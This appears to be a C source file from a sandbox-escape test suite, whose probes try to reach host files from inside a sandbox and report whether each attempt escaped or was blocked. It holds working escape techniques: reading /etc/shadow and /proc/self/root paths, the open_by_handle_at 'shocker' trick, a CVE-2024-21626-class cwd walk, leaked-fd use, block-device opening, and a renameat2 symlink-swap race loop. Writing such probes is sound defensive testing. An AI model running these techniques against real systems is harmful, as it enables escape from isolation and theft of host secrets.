/* Host files: reach a host path that is not bound, through /proc/self/root,
 * file handles, an inherited fd or cwd, or by name (secrets, homes, disks). */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>
#include "probe.h"

/* Reading one byte of PATH is the escape. */
static int read_one(const char *what, const char *path)
{
	char b;
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return blocked("%s: %s", path, ename(errno));
	long n = read(fd, &b, 1);
	int e = errno;
	close(fd);
	if (n == 1)
		return escaped("%s: read %s", what, path);
	return blocked("%s: read: %s", path, n < 0 ? ename(e) : "empty");
}

static int secret_by_name(const struct ctx *c)
{
	if (!c->secret) return broken("no secret= given");
	return read_one("an unbound host file", c->secret);
}

static int secret_via_proc_root(const struct ctx *c)
{
	char p[4096];
	if (!c->secret) return broken("no secret= given");
	snprintf(p, sizeof(p), "/proc/self/root%s", c->secret);
	return read_one("/proc/self/root", p);
}

static int shadow(const struct ctx *c) { return read_one("host secrets", "/etc/shadow"); }

static int root_home(const struct ctx *c)
{
	DIR *d = opendir("/root");
	if (!d) return blocked("/root: %s", ename(errno));
	int n = 0;
	struct dirent *e;
	while ((e = readdir(d)))
		n++;
	closedir(d);
	return n > 2 ? escaped("/root listed (%d entries)", n) : blocked("/root is empty here");
}

/* Other users' homes: any non-empty /home/<user> listed. */
static int other_homes(const struct ctx *c)
{
	DIR *d = opendir("/home");
	if (!d) return blocked("/home: %s", ename(errno));
	struct dirent *e;
	int seen = 0;
	while ((e = readdir(d)))
		if (e->d_name[0] != '.') seen++;
	closedir(d);
	return seen ? escaped("/home lists %d homes", seen) : blocked("/home is empty");
}

/* The "shocker" escape: a file handle opens any inode of the filesystem,
 * whatever the mount tree shows. */
static int by_handle(const struct ctx *c)
{
	struct { struct file_handle h; unsigned char b[128]; } fh;
	int mnt;
	fh.h.handle_bytes = sizeof(fh.b);
	if (name_to_handle_at(AT_FDCWD, "/", &fh.h, &mnt, 0) < 0)
		return blocked("name_to_handle_at: %s", ename(errno));
	int dirfd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	int fd = open_by_handle_at(dirfd, &fh.h, O_RDONLY | O_CLOEXEC);
	if (fd >= 0)
		return escaped("open_by_handle_at opened a handle");
	return blocked("open_by_handle_at: %s", ename(errno));
}

/* Any fd >= 3 the probe did not open itself came from outside. */
static int leaked_fds(const struct ctx *c)
{
	char p[64], t[4096];
	int found = 0;
	for (int fd = 3; fd < 1024; fd++) {
		if (fcntl(fd, F_GETFD) < 0) continue;
		snprintf(p, sizeof(p), "/proc/self/fd/%d", fd);
		long n = readlink(p, t, sizeof(t) - 1);
		t[n > 0 ? n : 0] = 0;
		printf("fd %d -> %s; ", fd, t);
		found++;
	}
	return found ? escaped("%d inherited fds", found) : blocked("only stdio open");
}

/* CVE-2024-21626 class: a cwd (or a path walked up from it) outside the
 * sandbox's root reaches the host's tree. The runner starts the sandbox
 * from the directory holding the secret. */
static int cwd_outside(const struct ctx *c)
{
	char p[4096];
	const char *base;
	if (!c->secret) return broken("no secret= given");
	base = strrchr(c->secret, '/');
	base = base ? base + 1 : c->secret;
	if (access(base, R_OK) == 0)
		return escaped("the caller's directory is the cwd (%s readable)", base);
	/* Walk up from cwd: a cwd outside the root is not stopped by "/". */
	size_t o = 0;
	for (int i = 0; i < 64 && o + 3 < sizeof(p); i++) o += (size_t)snprintf(p + o, sizeof(p) - o, "../");
	snprintf(p + o, sizeof(p) - o, "%s", c->secret + 1);
	if (access(p, R_OK) == 0)
		return escaped("walked up from cwd to %s", c->secret);
	return blocked("cwd %s: the secret is not reachable", getcwd(p, sizeof(p)) ? p : "?");
}

/* Host block devices: any openable disk. */
static int disks(const struct ctx *c)
{
	DIR *d = opendir("/dev");
	char p[300];
	struct dirent *e;
	int n = 0;
	if (!d) return blocked("/dev: %s", ename(errno));
	while ((e = readdir(d))) {
		struct stat st;
		snprintf(p, sizeof(p), "/dev/%s", e->d_name);
		if (lstat(p, &st) || !S_ISBLK(st.st_mode)) continue;
		n++;
		int fd = open(p, O_RDONLY | O_CLOEXEC);
		if (fd >= 0) { closedir(d); close(fd); return escaped("opened block device %s", p); }
	}
	closedir(d);
	return blocked("%d block devices, none openable", n);
}

/* A device node made by the sandbox would bypass nodev binds elsewhere. */
static int mknod_dev(const struct ctx *c)
{
	char p[64];
	snprintf(p, sizeof(p), "/tmp/escprobe-mknod-%d", (int)getpid());
	if (mknod(p, S_IFCHR | 0600, makedev(1, 3)) == 0) {
		unlink(p);
		return escaped("mknod of a character device worked");
	}
	return blocked("mknod: %s", ename(errno));
}

/* Not a probe of its own: the attacker half of escape_suite.sh's setup race.
 * In DIR, swaps entry `x` (a directory) with `y` (a symlink to LINK) and
 * `z` with `w` (a relative link walking up to LINK) with RENAME_EXCHANGE,
 * as fast as it can, until DIR/stop appears. */
int swap_loop(const char *dir, const char *link)
{
	char up[4096] = "", p[4200], q[4200];
	for (int i = 0; i < 32; i++) strcat(up, "../");
	strncat(up, link[0] == '/' ? link + 1 : link, sizeof(up) - strlen(up) - 1);
	snprintf(p, sizeof(p), "%s/x", dir); mkdir(p, 0755);
	snprintf(p, sizeof(p), "%s/z", dir); mkdir(p, 0755);
	snprintf(p, sizeof(p), "%s/y", dir); if (symlink(link, p)) return broken("symlink: %s", ename(errno));
	snprintf(p, sizeof(p), "%s/w", dir); if (symlink(up, p)) return broken("symlink: %s", ename(errno));
	snprintf(q, sizeof(q), "%s/ready", dir); close(open(q, O_WRONLY | O_CREAT | O_CLOEXEC, 0644));
	long swaps = 0;
	char x[4200], y[4200], z[4200], w[4200], stop[4200];
	snprintf(x, sizeof(x), "%s/x", dir); snprintf(y, sizeof(y), "%s/y", dir);
	snprintf(z, sizeof(z), "%s/z", dir); snprintf(w, sizeof(w), "%s/w", dir);
	snprintf(stop, sizeof(stop), "%s/stop", dir);
	while (access(stop, F_OK) != 0) {
		for (int i = 0; i < 64; i++) {
			if (renameat2(AT_FDCWD, x, AT_FDCWD, y, RENAME_EXCHANGE) == 0) swaps++;
			if (renameat2(AT_FDCWD, z, AT_FDCWD, w, RENAME_EXCHANGE) == 0) swaps++;
		}
	}
	return swaps ? blocked("%ld swaps done", swaps) : broken("renameat2: %s", ename(errno));
}

static const struct probe probes[] = {
	{"files_secret_by_name", "host files", C_HOST, "read an unbound host file of the caller by its path", secret_by_name},
	{"files_proc_self_root", "host files", C_HOST, "read it through /proc/self/root", secret_via_proc_root},
	{"files_open_by_handle", "host files", C_ROOT, "open_by_handle_at (shocker; needs CAP_DAC_READ_SEARCH)", by_handle},
	{"files_leaked_fds", "host files", C_HOST, "use an fd >= 3 inherited from the caller (the runner holds one open)", leaked_fds},
	{"files_cwd_outside_root", "host files", C_HOST, "a cwd outside the root, or walking up from it (CVE-2024-21626 class)", cwd_outside},
	{"files_etc_shadow", "host files", C_ROOT, "read /etc/shadow (host: root only)", shadow},
	{"files_root_home", "host files", C_ROOT, "list /root (host: root only)", root_home},
	{"files_other_homes", "host files", C_HOST, "list other users' homes under /home", other_homes},
	{"files_block_devices", "host files", C_ROOT, "open a host disk (host: root only)", disks},
	{"files_mknod", "host files", C_ROOT, "mknod a device node (host: root only)", mknod_dev},
};
FAMILY(fam_files, probes);
